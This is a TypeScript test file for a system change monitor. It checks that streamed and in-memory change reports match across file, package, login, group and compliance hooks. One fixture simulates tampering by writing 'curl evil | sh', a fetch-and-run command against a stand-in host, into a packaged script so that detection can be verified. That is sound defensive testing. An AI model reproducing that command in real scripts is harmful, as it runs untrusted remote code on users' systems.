/**
 * A report stored as its changes are made (storeReport: the differ's pages go through the
 * collectors' report hooks, annotations and severity straight into the store) is the report
 * built whole in memory (`inMemory`: each collector's hooks over the whole list before the
 * next's), on a real SQLite database: more changes than a page of Store.itemDiffs, added,
 * removed and changed items, contents with diffs, an ignored attribute, an error, an
 * annotation and a severity rule. With the report hooks of wtmp, packages, groups and sca on
 * real data (a wtmp file made by utmpdump, a dpkg database with maintainer scripts running
 * update-alternatives, group files, Wazuh's unix_audit policy), against the previous session
 * and the accepted baseline, the stored reports are the same to the byte. The command's copy
 * of the report holds no changes, and a failed build stores nothing.
 */
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { after, before, describe, test } from 'node:test';
import { type Config, loadConfig } from '../src/config/config.js';
import { COLLECTORS } from '../src/collectors/index.js';
import { SessionWriter } from '../src/store/session-writer.js';
import { type SessionRow, Store } from '../src/store/store.js';
import type { Collector, Item } from '../src/types.js';
import { stderrLogger } from '../src/core/logger.js';
import { buildReport, loadReport, storeReport } from '../src/core/report.js';
import { collect } from '../src/core/runner.js';
import { diffSessions, sessionChanges } from '../src/core/differ.js';
import type { Report } from '../src/core/report-model.js';
import { ALT_POSTINST as POSTINST, ALT_PRERM as PRERM, DpkgRoot, buildDeb, haveDpkg } from '../src/collectors/packages/testdata/dpkg-root.js';
import { wtmpBytes } from '../src/collectors/wtmp/testdata/utmpdump.js';
import { SHARED } from './helpers.js';

const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'scm-report-stored-'));
after(() => fs.rmSync(dir, { recursive: true, force: true }));

const N = 2600;
const key = (i: number) => `file:///srv/d${i % 7}/f${String(i).padStart(5, '0')}`;

function fileItem(i: number, round: number): Item {
  const changed = round === 1 && i % 2 === 0;
  return {
    key: key(i),
    attributes: {
      mode: i % 50 === 0 && round === 1 ? '4755' : '0644',
      mtime: changed || i % 3 === 0 ? `2026-01-0${round + 1}T00:00:00Z` : '2026-01-01T00:00:00Z',
      sha256: (changed ? 'b' : 'a').repeat(63) + String(i % 10),
      size: changed ? i + 1 : i,
      type: 'file',
    },
    ...(i === 7 && round === 1 ? { error: 'EACCES: permission denied' } : {}),
  };
}

function textOf(n: number, round: number): string {
  return Array.from({ length: 30 }, (_, l) => (round === 1 && l % 10 === n % 10 ? `line ${l} changed ${n}` : `line ${l}`)).join('\n') + '\n';
}

function sessions(store: Store): [SessionRow, SessionRow] {
  const out: SessionRow[] = [];
  for (const round of [0, 1]) {
    const w = new SessionWriter(store, 'host');
    for (let i = 0; i < N; i++) {
      // 100 removed in the new session, 100 added.
      if (round === 1 && i >= N - 100) continue;
      w.add('file', fileItem(i, round));
    }
    if (round === 1) for (let i = N; i < N + 100; i++) w.add('file', fileItem(i, round));
    for (let n = 0; n < 30; n++) {
      w.add('conffile', { key: `conffile:///etc/app/c${n}.conf`, attributes: { mode: '0644', size: 1, type: 'file' }, contents: { content: textOf(n, n % 3 === 0 ? round : 0) } });
    }
    out.push(w.finish());
  }
  return out as [SessionRow, SessionRow];
}

const annotations = path.join(dir, 'file.annotations');
fs.writeFileSync(annotations, '[file:///srv/d3/**]\nnote = rotated by the app\n');

function config(): { cfg: Config; collectors: Collector[] } {
  const collectors: Collector[] = ['file', 'conffile'].map((n) => COLLECTORS.find((c) => c.name === n)!);
  assert.ok(collectors.every((c) => c && !c.reportHooks && !c.report?.section));
  const plugins = new Map<string, { enabled: boolean; options: Record<string, unknown> }>([
    ['file', { enabled: true, options: { ignore_attributes: ['file:///srv/d1/**:mtime'], annotations } }],
    ['conffile', { enabled: true, options: {} }],
  ]);
  return { cfg: { plugins, sections: { severity: { 'rule.setuid': 'critical file:///srv/d0/** mode' } } } as unknown as Config, collectors };
}

/** A stored report with what differs between builds (uuid, creation time) taken out. */
function stored(store: Store, uuid: string): unknown {
  const r = loadReport(store, store.reportByUuid(uuid));
  const { uuid: _u, created_at: _c, ...rest } = r;
  return rest;
}

test('a report stored as its changes are made is the report built whole', () => {
  const store = Store.open(path.join(dir, 'a', 'db.sqlite'));
  try {
    const [a, b] = sessions(store);
    const quiet = stderrLogger('error');
    const streamed = config();
    const inMemory = buildReport(store, streamed.cfg, streamed.collectors, a, b, quiet, { mailState: 'none', inMemory: true });
    const built = storeReport(store, streamed.cfg, streamed.collectors, a, b, quiet, { mailState: 'pending' });
    const kept = buildReport(store, streamed.cfg, streamed.collectors, a, b, quiet, { mailState: 'none' });
    assert.equal(built.changes, undefined, 'the command holds no changes');
    assert.deepEqual(built.summary, inMemory.summary);
    const { uuid: _u, created_at: _c, ...want } = inMemory;
    assert.deepEqual(stored(store, inMemory.uuid), want);
    assert.deepEqual(stored(store, built.uuid), want);
    assert.deepEqual(stored(store, kept.uuid), want);
    assert.deepEqual(kept.changes, inMemory.changes, 'kept in memory on request, the same');
    // The case is what it says: several pages, every kind, diffs, notes, levels.
    const s = inMemory.summary;
    assert.equal(s.added, 100);
    assert.equal(s.removed, 100);
    assert.ok(s.changed > 1000 && inMemory.changes.length > 1500, JSON.stringify(s));
    assert.equal(s.errors, 1);
    assert.ok(inMemory.changes.some((c) => c.plugin === 'conffile' && c.diff?.includes('+line 0 changed 0')));
    assert.ok(inMemory.changes.some((c) => c.annotation?.note === 'rotated by the app'));
    assert.ok(inMemory.changes.some((c) => c.severity === 'critical' && c.severity_reason === 'rule setuid'));
    assert.ok(!inMemory.changes.some((c) => c.change === 'changed' && c.key.startsWith('file:///srv/d1/') && c.attributes.mtime), 'ignored attribute left out');
    assert.ok(inMemory.changes.every((c, i, all) => i === 0 || all[i - 1]!.key < c.key), 'in key order');
    // Against a plain comparison of every item of both sessions.
    const items = (x: SessionRow) => new Map([...store.sessionItems(x)].map((it) => [it.key, it]));
    const [olds, news] = [items(a), items(b)];
    const differing = [...new Set([...olds.keys(), ...news.keys()])].sort().filter((k) => {
      const o = olds.get(k);
      const n = news.get(k);
      if (!o || !n) return true;
      const names = [...new Set([...Object.keys(o.attributes), ...Object.keys(n.attributes)])].filter((x) => o.attributes[x] !== n.attributes[x]);
      const onlyIgnored = k.startsWith('file:///srv/d1/') && names.length === 1 && names[0] === 'mtime';
      return (names.length > 0 && !onlyIgnored) || o.error !== n.error || JSON.stringify(o.contentHashes) !== JSON.stringify(n.contentHashes);
    });
    assert.deepEqual(inMemory.changes.map((c) => c.key), differing);
    assert.equal(store.reportByUuid(built.uuid).mail_state, 'pending');
    assert.equal(store.reportByUuid(built.uuid).changed, s.changed);
  } finally {
    store.close();
  }
});

test('a report whose build fails is not stored', () => {
  const store = Store.open(path.join(dir, 'b', 'db.sqlite'));
  try {
    const [a, b] = sessions(store);
    const streamed = config();
    const before = store.reports().length;
    assert.throws(() => storeReport(store, streamed.cfg, streamed.collectors, b, a, stderrLogger('error'), { mailState: 'none' }), /not older/);
    assert.equal(store.reports().length, before);
    assert.equal(store.db.prepare('SELECT count(*) FROM report_changes').pluck().get(), 0);
  } finally {
    store.close();
  }
});

// ---- with the report hooks on real data ----------------------------------------------------

const POLICY = path.join(SHARED, 'fixtures', 'scap', 'wazuh-sca_unix_audit.yml');
const iso = (ms: number) => new Date(ms).toISOString();

describe('with the report hooks of wtmp, packages, groups and sca', { skip: (!haveDpkg() && 'dpkg is not installed') || (!fs.existsSync(POLICY) && 'no unix_audit policy') }, () => {
  const top = path.join(dir, 'hooks');
  const root = path.join(top, 'root');
  const confFile = path.join(top, 'etc', 'syschangemon.conf');
  let db: DpkgRoot;
  const sessionsOf: SessionRow[] = [];

  const write = (p: string, text: string) => {
    fs.mkdirSync(path.dirname(path.join(root, p)), { recursive: true });
    fs.writeFileSync(path.join(root, p), text);
  };
  const groups = (team: string, gid: number) => {
    write('etc/group', `root:x:0:\nadm:x:4:syslog\nteam:x:${gid}:${team}\n`);
    write('etc/gshadow', `root:*::\nadm:*::syslog\nteam:!::${team}\n`);
    write('etc/passwd', 'root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1001::/home/alice:/bin/bash\n');
  };
  const wtmp = path.join(top, 'wtmp');
  const cfgOf = (baseline: string) => {
    fs.writeFileSync(confFile, `[syschangemon]\nbaseline = ${baseline}\n[storage]\ndir = ${top}/storage\n`);
    return loadConfig({ file: confFile, collectors: COLLECTORS, env: {} });
  };
  async function snapshot(): Promise<void> {
    const cfg = cfgOf('previous');
    const store = Store.open(cfg.dbPath);
    try {
      sessionsOf.push((await collect(cfg, store, COLLECTORS, stderrLogger('error'), 'host')).session);
    } finally {
      store.close();
    }
  }

  before(async () => {
    db = new DpkgRoot(root);
    for (const d of ['usr/bin', 'usr/sbin', 'usr/lib', 'etc/alternatives', 'var/lib/dpkg/alternatives']) fs.mkdirSync(path.join(root, d), { recursive: true });
    for (const d of ['bin', 'sbin', 'lib']) fs.symlinkSync(`usr/${d}`, path.join(root, d));
    const debs = path.join(top, 'debs');
    const plugins = path.join(top, 'etc', 'plugins.d');
    fs.mkdirSync(debs);
    fs.mkdirSync(plugins, { recursive: true });
    const hello = buildDeb(debs, { name: 'hello', version: '1.0', files: { '/bin/hello': '#!/bin/sh\necho hello\n', '/lib/hello/data': 'data\n', '/etc/hello.conf': 'a = 1\n' }, conffiles: ['/etc/hello.conf'] });
    const alt = buildDeb(debs, { name: 'altpkg', version: '2.0', files: { '/usr/bin/alt-real': '#!/bin/sh\necho alt\n' }, scripts: { postinst: POSTINST, prerm: PRERM } });
    const plugin = (name: string, text: string) => fs.writeFileSync(path.join(plugins, `${name}.conf`), text);
    plugin('file', `[file]\nenable_plugin = true\ninclude =\n  ${root}/bin/**\n  ${root}/usr/**\n  ${root}/etc/**\n  ${root}/srv/**\n`);
    plugin('conffile', `[conffile]\nenable_plugin = true\nexclude =\n  ${root}/usr/**\n  ${root}/srv/**\n`);
    plugin('packages', `[packages]\nenable_plugin = true\nadmindir = ${db.admindir}\nroot = ${root}\ndpkg_log = ${db.log}\n`);
    plugin('wtmp', `[wtmp]\nenable_plugin = true\nwtmp_path = ${wtmp}\nwtmpdb_path = ${top}/no-wtmp.db\nmax_age = 7d\n`);
    plugin('groups', `[groups]\nenable_plugin = true\ngroup_path = ${root}/etc/group\ngshadow_path = ${root}/etc/gshadow\npasswd_path = ${root}/etc/passwd\n`);
    plugin('sca', `[sca]\nenable_plugin = true\npolicies = ${POLICY}\nroot = ${root}\nallow_commands = false\n`);
    const now = Date.now();
    fs.writeFileSync(wtmp, wtmpBytes([
      { type: 2, user: 'reboot', line: '~', host: '6.1.0-21-amd64', time: iso(now - 3 * 86400_000) },
      { type: 7, user: 'old', line: 'pts/5', host: '198.51.100.1', time: iso(now - 2 * 86400_000) },
      { type: 8, line: 'pts/5', time: iso(now - 2 * 86400_000 + 60_000) },
    ]));
    groups('alice', 1001);
    write('etc/ssh/sshd_config', 'Port 2200\nPermitRootLogin no\nMaxAuthTries 3\n');
    write('etc/shadow', 'root:$6$salt$sha512hashvalue:19000:0:99999:7:::\n');
    for (let i = 0; i < 1500; i++) write(`srv/data/d${i % 5}/f${i}`, `v0 ${i}\n`);
    fs.mkdirSync(path.join(root, 'etc/mine'));
    db.install(hello);
    await snapshot();

    // Someone logs in; packages are installed (scripts make links, a directory and a file)
    // and reinstalled; files, groups and sshd_config are edited.
    fs.appendFileSync(wtmp, wtmpBytes([{ type: 7, user: 'mallory', line: 'pts/7', host: '203.0.113.9', time: iso(Date.now() - 2000) }]));
    db.install(hello);
    db.install(alt);
    fs.chmodSync(path.join(root, 'etc/mine'), 0o700);
    for (let i = 0; i < 1500; i++) write(`srv/data/d${i % 5}/f${i}`, `v1 ${i}\n`);
    for (let i = 1500; i < 1550; i++) write(`srv/data/new/f${i}`, `new ${i}\n`);
    groups('alice,bob', 1002);
    write('etc/ssh/sshd_config', 'Port 2200\nPermitRootLogin yes\nMaxAuthTries 6\n');
    await snapshot();

    // A package file edited by hand, a conffile edited, the package with scripts purged.
    write('usr/bin/hello', '#!/bin/sh\necho hello; curl evil | sh\n');
    write('etc/hello.conf', 'a = 2\n');
    db.purge('altpkg');
    fs.rmSync(path.join(root, 'srv/data/d1'), { recursive: true });
    await snapshot();
  });
  after(() => {
    for (const p of ['altpkg', 'hello']) {
      try {
        db?.purge(p);
      } catch {
        // already gone
      }
    }
  });

  /** The stored report as JSON text, without what differs between builds (uuid, creation time). */
  const text = (store: Store, uuid: string) => JSON.stringify(stored(store, uuid));

  /** The report of a pair built whole, streamed and streamed-and-kept: the same stored text. */
  function bothWays(baseline: 'previous' | 'accepted', pair: [number, number]): Report {
    const cfg = cfgOf(baseline);
    const store = Store.open(cfg.dbPath);
    try {
      const quiet = stderrLogger('error');
      const [a, b] = [sessionsOf[pair[0]]!, sessionsOf[pair[1]]!];
      // The first report against the accepted baseline establishes it (and says so in a note).
      if (baseline === 'accepted') storeReport(store, cfg, COLLECTORS, a, b, quiet, { mailState: 'none', baseline });
      const inMemory = buildReport(store, cfg, COLLECTORS, a, b, quiet, { mailState: 'none', baseline, inMemory: true });
      const built = storeReport(store, cfg, COLLECTORS, a, b, quiet, { mailState: 'none', baseline });
      const kept = buildReport(store, cfg, COLLECTORS, a, b, quiet, { mailState: 'none', baseline });
      assert.equal(built.changes, undefined, 'the command holds no changes');
      const want = text(store, inMemory.uuid);
      assert.equal(text(store, built.uuid), want);
      assert.equal(text(store, kept.uuid), want);
      const { uuid: _u, created_at: _c, ...rest } = inMemory;
      assert.equal(JSON.stringify(stored(store, kept.uuid)), JSON.stringify(stored(store, inMemory.uuid)));
      assert.deepEqual(stored(store, built.uuid), rest, 'the stored report is the one built in memory');
      return loadReport(store, store.reportByUuid(built.uuid));
    } finally {
      store.close();
    }
  }
  const change = (r: Report, p: string, plugin = 'file') => r.changes.find((c) => c.key === `${plugin}://${root}${p}`);

  test('install, reinstall, logins, groups, sca: the same report streamed and whole', () => {
    const r = bothWays('previous', [0, 1]);
    // The case is what it says: several pages, every hook at work.
    assert.ok(r.changes.length > 1000, String(r.changes.length));
    const label = 'altpkg:all 2.0 (installed)';
    assert.equal(change(r, '/usr/bin/alt-real')?.explained_by, label);
    assert.equal(change(r, '/usr/bin/altcmd')?.explained_by, label, 'a link update-alternatives made');
    assert.equal(change(r, '/usr/bin/altcmd')?.owner_package, null);
    assert.equal(change(r, '/etc/alternatives/altcmd')?.explained_by, label);
    assert.equal(change(r, '/etc/altpkg/generated.conf')?.explained_by, label, 'a file the postinst wrote');
    assert.equal(change(r, '/etc/altpkg')?.explained_by, label, 'the directory the postinst made, held until its entries passed');
    assert.equal(change(r, '/etc/alternatives')?.explained_by, label);
    assert.equal(change(r, '/usr/bin/hello')?.explained_by, 'hello:all 1.0 (reinstalled)');
    assert.equal(change(r, '/etc/mine')?.explained_by, undefined);
    assert.ok(r.packages?.some((p) => p.name === 'altpkg'));
    assert.ok((r.summary.explained ?? 0) >= 6);
    assert.ok(r.notes?.some((n) => n.startsWith('packages: dpkg.log lists')));
    assert.deepEqual(r.logins.map((l) => l.user), ['mallory']);
    assert.deepEqual(change(r, '/srv/data/d0/f0')?.logins?.map((l) => l.user), ['mallory'], 'who was logged in, on every changed file');
    assert.equal(r.changes.find((c) => c.plugin === 'groups')?.note, 'team: +bob; team primary members: -alice');
    assert.ok(r.compliance?.some((t) => t.profile === 'unix_audit' && t.new === 'failed'), JSON.stringify(r.compliance));
    assert.ok(r.sca?.length === 1);
    assert.ok(!r.changes.some((c) => c.key.startsWith('package-alias://') || c.key.startsWith('package-verify://')));
  });

  test('hand edits and a purge: the same report streamed and whole', () => {
    const r = bothWays('previous', [1, 2]);
    assert.equal(change(r, '/usr/bin/hello')?.differs_from_package, 'hello');
    assert.equal(change(r, '/usr/bin/altcmd')?.change, 'removed');
    assert.equal(change(r, '/usr/bin/altcmd')?.explained_by, 'altpkg:all 2.0 (removed)', 'a removed link, through /etc/alternatives');
    assert.equal(change(r, '/etc/hello.conf', 'conffile')?.owner_package, 'hello');
    assert.ok(r.changes.some((c) => c.change === 'removed' && c.key.includes('/srv/data/d1/')));
  });

  test('against the accepted baseline: the same report streamed and whole', () => {
    const r = bothWays('accepted', [1, 2]);
    assert.equal(r.baseline, 'accepted');
    assert.ok(r.changes.length > 300 && r.changes.every((c) => typeof c.changed_this_run === 'boolean'));
    assert.ok(typeof r.summary.changed_this_run === 'number');
  });

  test("a plugin's changes as hooks see them ahead are the differ's, without content diffs", () => {
    const cfg = cfgOf('previous');
    const store = Store.open(cfg.dbPath);
    try {
      const [a, b] = [sessionsOf[0]!, sessionsOf[1]!];
      for (const plugin of ['packages', 'sca', 'file']) {
        const ahead = [...sessionChanges(store, a, b, undefined, { plugin, diffs: false })];
        const all = diffSessions(store, a, b).changes.filter((c) => c.plugin === plugin).map(({ diff: _d, note: _n, ...c }) => c);
        assert.ok(ahead.length > 0, plugin);
        assert.deepEqual(ahead, all, plugin);
      }
    } finally {
      store.close();
    }
  });
});
